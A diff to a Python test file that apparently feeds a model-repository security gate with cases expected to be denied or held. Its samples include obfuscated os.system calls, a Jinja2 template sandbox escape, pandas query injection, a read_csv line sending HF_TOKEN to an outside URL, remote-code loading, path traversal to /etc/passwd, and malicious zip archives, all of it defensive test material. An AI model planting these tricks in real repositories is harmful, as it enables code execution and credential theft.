@@ -1,6 +1,8 @@
 """Model repositories whose settings make a loader run code, of this folder or of another's, or leave the folder."""
 
+import io
 import json
+import zipfile
 from collections.abc import Iterator
 
 from tests.gate.case import Case
@@ -47,6 +49,15 @@ BODIES = {
     "map over names": b"import os\nlist(map(os.system, ['true']))\nclass Model: ...\n",
     "sys.modules": b"import sys, os\nsys.modules['os'].system('true')\nclass Model: ...\n",
     "importlib with a computed name": b"import importlib\nimportlib.import_module('o' + 's').system('true')\nclass Model: ...\n",
+    "sys.modules, asked": b"import sys\nsys.modules.get('o' + 's').system('true')\nclass Model: ...\n",
+    "itemgetter": b"import os, operator\noperator.itemgetter('system')(vars(os))('true')\nclass Model: ...\n",
+    "module of a built-in": b"print.__self__.__import__('os').system('true')\nclass Model: ...\n",
+    "template": b"import jinja2\njinja2.Template('{{ cycler.__init__.__globals__.os.system(\"true\") }}').render()\nclass Model: ...\n",
+    "query": b"import pandas\npandas.DataFrame({'a': [1]}).query('@pandas.io.common.os.system(\"true\")')\nclass Model: ...\n",
+    "psutil": b"import psutil\npsutil.Popen(['true'])\nclass Model: ...\n",
+    "table by an address": b"import os, pandas\npandas.read_csv('http://example.org/?' + os.environ['HF_TOKEN'])\nclass Model: ...\n",
+    "dynamic module": b"from transformers.dynamic_module_utils import get_class_from_dynamic_module as g\nModel = g('m.M', 'evil/x')\n",
+    "f2py": b"from numpy.f2py.crackfortran import _eval_length\n_eval_length('__import__(\"os\").getcwd()', {})\nclass Model: ...\n",
     "in another file": b"from .helper import x\nclass Model: ...\n",
 }
 
@@ -161,8 +172,55 @@ def _references() -> Iterator[Case]:
         "hold",
     )
     yield folder(
+        "settings that are cut, alone", {"config.json": b'{"model_type": "bert", "auto_map": {"AutoModel":'}, "hold"
+    )
+    yield folder(
+        "vocabulary of the system",
+        {"tokenizer_config.json": {"tokenizer_class": "BertTokenizer", "vocab_file": "../../../etc/passwd"}},
+    )
+    yield folder(
+        "parts of other repositories",
+        {"modular_model_index.json": {"_class_name": "ModularPipeline", "unet": [None, None, {"repo": "evil/x"}]}},
+        "hold",
+    )
+    yield folder(
+        "tokenizer of another package",
+        {"0/wordembedding_config.json": {"tokenizer_class": "their_package.T"}, "config.json": BERT},
+        "hold",
+    )
+    yield folder(
+        "towers of another package",
+        {"config.json": {"types": {"a": "their_package.T"}, "structure": {"query": ["a"]}}, "modules.json": []},
+        "hold",
+    )
+    yield folder(
+        "pipeline.py beside model_index.json",
+        {"model_index.json": {"_class_name": "StableDiffusionPipeline"}, "pipeline.py": BODIES["at import"]},
+    )
+    yield folder("custom.py beside hyperparams.yaml", {"hyperparams.yaml": b"a: 1\n", "custom.py": BODIES["at import"]})
+    yield folder("sitecustomize.py", {"sitecustomize.py": BODIES["at import"], "config.json": BERT})
+    yield from _archived()
+    yield folder(
         "pickle beside safetensors", {"config.json": BERT, "model.safetensors": _weights(), "pytorch_model.bin": INNER}
     )
+
+
+def _archived() -> Iterator[Case]:
+    def packed(name: str, files: dict[str, bytes], outcome: str = "deny") -> Case:
+        memory = io.BytesIO()
+        with zipfile.ZipFile(memory, "w") as out:
+            for path, content in files.items():
+                out.writestr(zipfile.ZipInfo(path), content)
+        return Case(f"g-archived/{name}", {"model.zip": memory.getvalue()}, "", outcome)
+
+    auto = json.dumps(_auto()).encode()
+    other = json.dumps({**BERT, "auto_map": {"AutoModel": "evil/repo--modeling.Model"}}).encode()
+    template = json.dumps({"chat_template": "{{ cycler.__init__.__globals__.os.getcwd() }}"}).encode()
+    yield packed("code of the model", {"m/config.json": auto, "m/modeling.py": BODIES["at import"]})
+    yield packed("code of another repository", {"m/config.json": other})
+    yield packed("template", {"tokenizer_config.json": template})
+    yield packed("zip application", {"__main__.py": BODIES["at import"]})
+    yield packed("index that climbs", {"model.safetensors.index.json": b'{"weight_map": {"a": "../../x.safetensors"}}'})
 
 
 def _weights() -> bytes:
